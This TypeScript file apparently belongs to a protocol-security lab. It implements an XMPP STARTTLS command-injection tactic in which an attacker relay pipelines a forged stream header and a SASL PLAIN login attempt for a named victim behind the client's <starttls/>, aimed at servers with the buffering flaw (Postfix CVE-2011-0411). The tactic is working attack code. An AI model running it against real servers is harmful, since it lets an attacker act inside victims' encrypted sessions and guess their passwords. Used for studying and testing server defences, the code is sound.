import type { ElementTactic } from "./tactics/shape.js";
import { NS } from "../lab/core/ns.js";
import { encodePlain } from "../lab/core/sasl/plain.js";
import { clientHeaderAttrs, headerXml, saslEl } from "../lab/core/stanzas.js";

/**
 * inject-after-starttls, as pure functions: mallory appends her own bytes behind alice's
 * `<starttls/>` so that both leave in one write - one TCP segment, one read on the server.
 * A correct server discards what follows `<starttls/>` (RFC 6120 §5.4.3.3) and hangs up; one
 * with the buffering bug (Postfix CVE-2011-0411; "NO STARTTLS", USENIX Security 2021) keeps it
 * and processes it once TLS is up, as if alice had said it inside her encrypted session.
 *
 * The words: a stream of mallory's own, because the server starts a fresh stream after TLS
 * (§5.4.3.3), and a login attempt for alice with a password mallory made up. XMPP answers
 * every step, so the server's answer to it goes to alice inside her TLS session, where mallory
 * cannot read it: the harm is that the server acted on mallory's words as alice's, not that
 * mallory learns anything.
 */
export interface InjectionWords {
  /** The server's domain: the injected stream's `to` (§4.7.2). */
  domain: string;
  /** Whose login mallory attempts: a victim she targets by name. */
  username: string;
  /** The password she tries. */
  guess: string;
}

/** The injected bytes: a stream header and a SASL PLAIN <auth> (RFC 6120 §4.7, §6.4.2). */
export function injectionPayload(w: InjectionWords): string {
  return headerXml(clientHeaderAttrs(w.domain)) + saslEl("auth", { mechanism: "PLAIN" }, encodePlain(w.username, w.guess)).toString();
}

/**
 * The tactic: on the client's `<starttls/>` (TLS namespace, on its way to the server), forward
 * the element unchanged and pipeline `payload` behind it - the relay writes both in one write
 * (interception.ts). Anything else: nothing to do.
 */
export function injectAfterStartTls(payload: string): ElementTactic {
  return (el, where) => {
    if (where.dir !== "c2s" || el.name !== "starttls" || el.getNS() !== NS.tls || !payload) return null;
    return { el, edits: [{ tactic: "inject-after-starttls", op: "appended", bytes: Buffer.byteLength(payload), what: "a stream header and a PLAIN login" }], append: payload };
  };
}
